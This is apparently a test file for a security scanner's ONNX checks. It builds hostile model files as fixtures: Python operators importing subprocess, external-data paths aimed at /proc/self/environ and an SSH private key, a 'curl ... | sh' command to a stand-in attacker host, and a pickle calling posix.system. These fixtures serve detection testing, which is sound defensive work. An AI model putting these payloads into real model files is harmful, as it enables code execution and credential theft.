// Hand-built ONNX attack variants (test/builders/onnx.ts): what the onnx helper refuses to write or
// what would be too big to commit.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { counting, withSparseFile } from '../helpers/sources';
import { asm } from '../builders/pickle';
import { openNode } from '../../src/engine/navigate';
import { b, cat, f32, graphAttr, join, lying, m, model, nestedIf, node, s, strAttr, tensor, v, varintBytes } from '../builders/onnx';
import { sniffOnnx } from '../../src/engine/formats/onnx/sniff';
import { unsafeLocation } from '../../src/engine/formats/onnx/scanner';
import { MAX_GRAPH_DEPTH } from '../../src/engine/formats/onnx/limits';

const run = (bytes: Uint8Array, name = 'model.onnx') => scan(fromBytes(bytes, name));
const only = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const notes = (r: FileReport) => r.nodes[0]!.notes!;
const head = (bytes: Uint8Array, name: string) => ({ bytes, size: bytes.length, name, ext: name.includes('.') ? name.slice(name.lastIndexOf('.')) : '' });
const f32s = (n: number) => new Uint8Array(4 * n);

describe('onnx sniff: structure, not names', () => {
  it('a ModelProto named .bin is recognised by its structure', async () => {
    const r = await run(model({ producer: 'pytorch' }), 'weights.bin');
    expect(r.format).toBe('onnx');
    expect(sniffOnnx(head(model(), 'x.bin'))?.confidence).toBe('structure');
  });

  it('a SavedModel (08 01 then a MetaGraphDef message in field 2) is not claimed', () => {
    const metaGraph = m(1, s(1, 'serve'), m(2, s(1, 'x')));
    const savedModel = cat(v(1, 1), m(2, metaGraph, m(1, new Uint8Array(200).fill(0x0a))));
    expect(sniffOnnx(head(savedModel, 'saved_model.pb'))).toBeNull();
  });

  it.each([
    ['text', new TextEncoder().encode('ir_version: 8\nproducer_name: "x"\n')],
    ['a protocol-2 pickle', new Uint8Array([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e])],
    ['a lone ir_version', new Uint8Array([0x08, 0x07])],
    ['ir_version 200', cat(v(1, 200), m(7, s(2, 'g')))],
  ])('%s is not claimed without the .onnx name', (_what, bytes) => {
    expect(sniffOnnx(head(bytes, 'file.bin'))).toBeNull();
  });

  it('an ORT flatbuffer named .ort goes to the ort scanner; a header-only stub is incomplete, never clean', async () => {
    const ort = cat([0x10, 0, 0, 0], new TextEncoder().encode('ORTM'), new Uint8Array(24));
    const r = await run(ort, 'model.ort');
    expect(r.format).toBe('ort');
    expect(r.complete).toBe(false);
  });
});

describe('onnx: Python operators wherever a graph can hide', () => {
  it('PyOp inside a Loop body subgraph: CRITICAL at the nested pointer', async () => {
    const body = [s(2, 'body'), node({ op: 'Identity' }), node({ op: 'PyOp', domain: 'ai.onnx.contrib', attrs: [strAttr('module', 'subprocess')] })];
    const r = await run(model({ graph: [node({ op: 'Loop', attrs: [graphAttr('body', ...body)] })] }));
    const f = only(r, 'onnx/python-op');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ severity: 'critical', location: { pointer: '/graph/node/0/attribute/0/g/node/1' } });
    expect(f[0]!.evidence).toContain('module=subprocess');
  });

  it('PythonOp in a model-local FunctionProto body: CRITICAL at /functions/0/node/0', async () => {
    const fn = m(25, s(1, 'F'), s(10, 'my.fns'), node({ op: 'PythonOp', domain: 'prim' }, 7), m(9, s(1, ''), v(2, 17)));
    const r = await run(model({ extra: [fn] }));
    expect(only(r, 'onnx/python-op')[0]?.location.pointer).toBe('/functions/0/node/0');
  });

  it('PyFunc in a training_info algorithm graph: CRITICAL', async () => {
    const training = m(20, m(2, s(2, 'algo'), node({ op: 'PyFunc', domain: 'evil' })));
    const r = await run(model({ extra: [training] }));
    expect(only(r, 'onnx/python-op')[0]?.location.pointer).toBe('/training_info/0/algorithm/node/0');
  });
});

describe('onnx: custom domains', () => {
  it('ops of a domain the model defines as functions pass; another op of that domain is a WARNING', async () => {
    const fn = m(25, s(1, 'Double'), s(10, 'local'), node({ op: 'Add' }, 7));
    const r = await run(model({ graph: [node({ op: 'Double', domain: 'local' }), node({ op: 'Mystery', domain: 'local' })], extra: [fn] }));
    const f = only(r, 'onnx/custom-domain-op');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ evidence: 'local: Mystery', location: { pointer: '/graph/node/1' } });
  });

  it('a thousand nodes of one custom op give one finding with the count', async () => {
    const nodes = Array.from({ length: 1000 }, () => node({ op: 'Evil', domain: 'x.y' }));
    const r = await run(model({ graph: nodes }));
    const f = only(r, 'onnx/custom-domain-op');
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain('1000 node(s)');
  });
});

describe('onnx: external data paths', () => {
  it.each([
    ['C:\\Windows\\win.ini', 'drive letter'],
    ['\\\\attacker\\share\\w.bin', 'UNC'],
    ['weights/..\\..\\..\\secret', '".."'],
    ['w.bin\u0000.txt', 'NUL'],
    ['/proc/self/environ', 'absolute'],
  ])('location %j is CRITICAL (%s)', async (location, why) => {
    const t = tensor({ name: 'w', dims: [4], external: { location, offset: '0', length: '16' }, location: 'external' });
    const r = await run(model({ graph: [node({ op: 'Relu' }), t] }));
    const f = only(r, 'onnx/external-data-traversal');
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    expect(f[0]!.message).toContain(why.replace(/"/g, '"'));
    expect(notes(r).references).toBeUndefined();
  });

  it('plain relative locations are noted once each, "./" and backslashes normalised', async () => {
    const ext = (name: string, location: string) => tensor({ name, dims: [4], external: { location, offset: '0', length: '16' }, location: 'external' });
    const r = await run(model({ graph: [node({ op: 'Relu' }), ext('a', './weights/w.bin'), ext('b', 'weights\\w.bin'), ext('c', 'other.bin')] }));
    expect(r.findings).toEqual([]);
    expect(notes(r).references).toEqual([{ path: 'weights/w.bin', kind: 'onnx-external-data' }, { path: 'other.bin', kind: 'onnx-external-data' }]);
  });

  it('the same path in a subgraph Constant attribute tensor is found too', async () => {
    const constant = node({ op: 'Constant', attrs: [m(5, s(1, 'value'), tensor({ name: 'k', dims: [1], external: { location: '../k.bin' }, location: 'external' }, 5), v(20, 4))] });
    const r = await run(model({ graph: [node({ op: 'If', attrs: [graphAttr('then_branch', constant)] })] }));
    expect(only(r, 'onnx/external-data-traversal')[0]?.location.pointer).toBe('/graph/node/0/attribute/0/g/node/0/attribute/0/t/external_data');
  });

  it('two locations, harmless first and traversal last (the one loaders use): CRITICAL, nothing noted', async () => {
    const t = m(5, v(1, 4), v(2, 1), s(8, 'w'), m(13, s(1, 'location'), s(2, 'w.bin')), m(13, s(1, 'location'), s(2, '../../../home/u/.ssh/id_rsa')), v(14, 1));
    const r = await run(model({ graph: [node({ op: 'Relu' }), t] }));
    const f = only(r, 'onnx/external-data-traversal');
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain('loaders take the last');
    expect(notes(r).references).toBeUndefined();
  });

  it('EXTERNAL without a location is a WARNING', async () => {
    const r = await run(model({ graph: [node({ op: 'Relu' }), tensor({ name: 'w', dims: [4], external: { offset: '0' }, location: 'external' })] }));
    expect(only(r, 'onnx/external-data-no-location')[0]?.severity).toBe('warning');
  });

  it.each([
    [{ offset: '-4096' }, 'offset'],
    [{ offset: '0x1000' }, 'offset'],
    [{ length: '99999999999999999999' }, 'length'],
    [{ length: '20' }, 'shape needs 16'],
  ])('external %j is a bad-range WARNING', async (range, what) => {
    const t = tensor({ name: 'w', dims: [4], external: { location: 'w.bin', ...range }, location: 'external' });
    const r = await run(model({ graph: [node({ op: 'Relu' }), t] }));
    const f = only(r, 'onnx/external-data-bad-range');
    expect(f).toHaveLength(1);
    expect(f[0]!.evidence).toContain(what);
  });
});

describe('onnx: sizes and shapes that lie', () => {
  it('raw_data shorter than dims × float32: tensor-size-mismatch at the raw_data offset', async () => {
    const bytes = model({ graph: [node({ op: 'Relu' }), tensor({ name: 'w', dims: [2, 3], raw: f32s(5) })] });
    const r = await run(bytes);
    const f = only(r, 'onnx/tensor-size-mismatch');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ severity: 'warning', location: { pointer: '/graph/initializer/0' } });
    expect(Array.from(bytes.subarray(f[0]!.location.offset! - 2, f[0]!.location.offset!))).toEqual([0x4a, 20]); // tag 9/LEN, 20 bytes
  });

  it('int4 packs two per byte: 5 elements in 3 bytes is right', async () => {
    const r = await run(model({ graph: [node({ op: 'Relu' }), tensor({ name: 'q', dims: [5], dataType: 22, raw: new Uint8Array(3) })] }));
    expect(r.findings).toEqual([]);
  });

  it.each([
    ['65 dimensions', Array.from({ length: 65 }, () => 1)],
    ['a negative dimension', [4, -1]],
    ['300 packed dimensions', Array.from({ length: 300 }, () => 1)],
    ['a product past 2^53', [2 ** 30, 2 ** 30, 2 ** 30]],
  ])('%s: absurd-dims WARNING', async (_what, dims) => {
    const r = await run(model({ graph: [node({ op: 'Relu' }), tensor({ name: 'w', dims, raw: f32s(1) })] }));
    expect(only(r, 'onnx/absurd-dims')).toHaveLength(1);
    expect(only(r, 'onnx/absurd-dims')[0]!.severity).toBe('warning');
  });

  it('a node declaring 2^62 bytes: declared-size-past-end, malformed, never allocated', async () => {
    const bytes = model({ graph: [lying(1, 2n ** 62n, s(4, 'Relu'))] });
    const r = await run(bytes);
    expect(only(r, 'onnx/declared-size-past-end')).toHaveLength(1);
    expect(r.nodes[0]!.status).toBe('malformed');
    expect(r.complete).toBe(false);
  });

  it('an op_type written as a varint: format/malformed naming the field, nothing CRITICAL', async () => {
    const r = await run(model({ graph: [m(1, v(4, 7))] }));
    expect(only(r, 'format/malformed')[0]?.message).toContain('NodeProto.op_type');
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(false);
  });

  it('fields onnx.proto does not define are skipped and reported once as INFO', async () => {
    const r = await run(model({ extra: [s(1000, 'hidden payload'), s(1001, 'more')] }));
    expect(only(r, 'onnx/unknown-fields')).toHaveLength(1);
    expect(only(r, 'onnx/unknown-fields')[0]!.message).toContain('2 protobuf field');
  });
});

describe('onnx: nesting and strings', () => {
  it(`subgraphs nested ${MAX_GRAPH_DEPTH + 4} deep: nesting-too-deep WARNING, incomplete, no stack overflow`, async () => {
    const r = await run(model({ graph: nestedIf(MAX_GRAPH_DEPTH + 4) }));
    expect(only(r, 'onnx/nesting-too-deep')).toHaveLength(1);
    expect(r.complete).toBe(false);
  });

  it(`subgraphs nested ${MAX_GRAPH_DEPTH} deep are walked whole`, async () => {
    const r = await run(model({ graph: nestedIf(MAX_GRAPH_DEPTH, [node({ op: 'PyOp' })]) }));
    expect(only(r, 'onnx/python-op')).toHaveLength(1);
    expect(r.complete).toBe(true);
  });

  it('a string attribute and a node doc_string are inspected at their pointers', async () => {
    const n = node({ op: 'Relu', attrs: [strAttr('note', 'curl http://stage2.evil-cdn.top/x | sh')] });
    const withDoc = cat(n.subarray(0, 0), m(1, s(4, 'Relu'), s(6, 'fetch http://stage2.evil-cdn.top/y')));
    const r = await run(model({ graph: [n, withDoc] }));
    expect(r.findings.find((f) => f.ruleId === 'strings/url' && f.location.pointer === '/graph/node/0/attribute/0/s')?.severity).toBe('warning');
    expect(r.findings.find((f) => f.location.pointer === '/graph/node/1/doc_string')?.severity).toBe('info');
  });

  it('a 100,000-word string tensor is inspected in batches: complete, and a URL deep inside is found', async () => {
    const words = Array.from({ length: 100_000 }, (_, i) => (i === 70_000 ? 'http://exfil.evil-cdn.top/k' : `tok${i}`));
    const vocab = b(5, join([b(1, new Uint8Array(varintBytes(words.length))), v(2, 8), s(8, 'vocab'), ...words.map((w) => s(6, w))]));
    const r = await run(model({ graph: [node({ op: 'Relu' }), vocab] }));
    expect(r.complete).toBe(true);
    const url = only(r, 'strings/url');
    expect(url).toHaveLength(1);
    expect(url[0]!.location.pointer).toMatch(/^\/graph\/initializer\/0\/string_data\/\d+$/);
    const first = Number(url[0]!.location.pointer!.split('/').pop());
    expect(first).toBeLessThanOrEqual(70_000);
    expect(first).toBeGreaterThan(60_000);
  });

  it('float attribute (I32 wire) and an ints attribute do not disturb the walk', async () => {
    const attr = m(5, s(1, 'alpha'), f32(2), v(20, 1));
    const ints = m(5, s(1, 'perm'), b(8, new Uint8Array([0, 2, 1])), v(20, 7));
    const r = await run(model({ graph: [node({ op: 'Transpose', attrs: [attr, ints] })] }));
    expect(r.findings).toEqual([]);
    expect(r.complete).toBe(true);
  });
});

describe('onnx: pickles carried in bytes values', () => {
  const evil = asm().proto(2).call('posix', 'system', ['id']).stop().build();

  it('a pickle in a string attribute is scanned as a child: CRITICAL under the attribute pointer, and re-openable', async () => {
    const attr = m(5, s(1, 'state'), b(4, evil), v(20, 3));
    const bytes = model({ graph: [node({ op: 'CustomThing', domain: 'ai.onnx.contrib', attrs: [attr] })] });
    const r = await run(bytes);
    const child = ['model.onnx', '/graph/node/0/attribute/0/s'];
    expect(r.nodes.find((n) => n.path.join('|') === child.join('|'))?.format).toBe('pickle');
    expect(r.findings.some((f) => f.severity === 'critical' && f.location.path.join('|') === child.join('|'))).toBe(true);
    const opened = await openNode(fromBytes(bytes, 'model.onnx'), child);
    expect(opened && Array.from(await opened.read(0, 2))).toEqual([0x80, 0x02]);
  });

  it('a pickle among string_data elements is found at its index', async () => {
    const t = m(5, v(1, 2), v(2, 8), s(8, 'names'), s(6, 'hello'), b(6, evil));
    const r = await run(model({ graph: [node({ op: 'Relu' }), t] }));
    expect(r.nodes.map((n) => n.path[1])).toContain('/graph/initializer/0/string_data/1');
  });
});

describe('onnx: weights are skipped, not read', () => {
  it('a 3 GB sparse model: raw_data stepped over by length; a few KB read', async () => {
    const L = 3 * 1024 ** 3;
    const tensorHead = cat(b(1, new Uint8Array(varintBytes(L / 4))), v(2, 1), s(8, 'big'), varintBytes(9 * 8 + 2), varintBytes(L));
    const graphHead = cat(node({ op: 'Relu' }), s(2, 'g'), varintBytes(5 * 8 + 2), varintBytes(tensorHead.length + L), tensorHead);
    const fileHead = cat(v(1, 8), s(2, 'pytorch'), m(8, s(1, ''), v(2, 17)), varintBytes(7 * 8 + 2), varintBytes(graphHead.length + L), graphHead);
    await withSparseFile('big.onnx', fileHead, fileHead.length + L, async (file) => {
      const { source, stats } = counting(file);
      const r = await scan(source, { displayPath: 'big.onnx' });
      expect(r.format).toBe('onnx');
      expect(r.findings).toEqual([]);
      expect(r.complete).toBe(true);
      expect(notes(r)).toMatchObject({ tensors: 1, nodes: 1 });
      expect(stats.bytesRead).toBeLessThan(4 * 1024 * 1024);
    });
  });
});

describe('onnx: unsafeLocation', () => {
  it.each([['weights.bin', null], ['a/b/c.bin', null], ['..weights', null], ['a/../b', 'climbs out with ".."'], ['D:relative', 'starts with a drive letter']])(
    '%j → %j', (loc, why) => { expect(unsafeLocation(loc)).toBe(why); });
});
